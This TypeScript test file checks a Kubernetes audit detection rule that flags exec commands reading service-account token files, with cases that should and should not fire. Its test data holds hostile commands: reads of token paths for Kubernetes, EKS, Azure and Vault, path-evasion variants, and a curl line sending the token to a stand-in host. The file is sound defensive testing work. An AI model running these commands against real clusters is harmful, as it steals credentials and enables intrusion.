import rule from '../../shared/detection/rules/exec-reads-token.ts';
import { entry, OUTSIDE, use } from '../detection/world.ts';
import { testRule } from './harness.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

testRule(rule, {
  fires: [
    {
      name: 'cat of the token file',
      given: [entry(10, 'kubernetes-admin', ['cat', TOKEN])],
      severity: 'medium',
      confidence: 'medium',
      summary: 'kubernetes-admin ran a command in shop/cart-1 that names its token file.',
      alerts: [['exec-reads-token']],
    },
    {
      name: 'one that was refused',
      given: [entry(10, 'kubernetes-admin', ['cat', TOKEN], { request: { code: 403 } })],
      severity: 'low',
      confidence: 'medium',
      summary: 'kubernetes-admin ran a command in shop/cart-1 that names its token file (refused).',
      alerts: [['exec-reads-token']],
    },
    ...[
      ['sh', '-c', `curl -H "Authorization: Bearer $(cat ${TOKEN})" https://example.org`],
      ['base64', '/run/secrets/kubernetes.io/serviceaccount/..data/token'],
      ['cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token'],
      ['cat', '/var/run/secrets/azure/tokens/azure-identity-token'],
      ['cat', '/var/run/secrets/tokens/vault'],
      ['cat', '/proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token'],
      ['cat', '//var//run/secrets/kubernetes.io/serviceaccount//token'],
    ].map((command) => ({
      name: command.join(' '),
      given: [entry(10, 'dev', command)],
      severity: 'medium' as const,
      confidence: 'medium' as const,
      summary: 'dev ran a command in shop/cart-1 that names its token file.',
      alerts: [['exec-reads-token']],
    })),
    {
      name: "the theft of the pod's token that follows joins it",
      given: [entry(10, 'kubernetes-admin', ['cat', TOKEN]), use(60, 'cart-1', { from: OUTSIDE })],
      severity: 'medium',
      confidence: 'medium',
      summary: 'kubernetes-admin ran a command in shop/cart-1 that names its token file.',
      alerts: [['exec-reads-token', 'token-used-away-from-pod', 'token-used-in-two-places']],
    },
    {
      name: "the theft of another pod's token does not",
      given: [entry(10, 'kubernetes-admin', ['cat', TOKEN]), use(60, 'pay', { from: OUTSIDE })],
      severity: 'medium',
      confidence: 'medium',
      summary: 'kubernetes-admin ran a command in shop/cart-1 that names its token file.',
      alerts: [['exec-reads-token'], ['token-used-away-from-pod', 'token-used-in-two-places']],
    },
  ],
  ignores: [
    { name: 'a shell', given: [entry(10, 'dev', ['sh'])], because: 'what is typed into it is not in the log' },
    { name: 'an attach', given: [entry(10, 'dev', [])], because: 'it has no command' },
    {
      name: 'other files of the account',
      given: [entry(10, 'dev', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt'])],
      because: 'they are no secret',
    },
    {
      name: 'a program that is called token',
      given: [entry(10, 'dev', ['./token', '--rotate'])],
      because: 'it names no token file',
    },
  ],
});
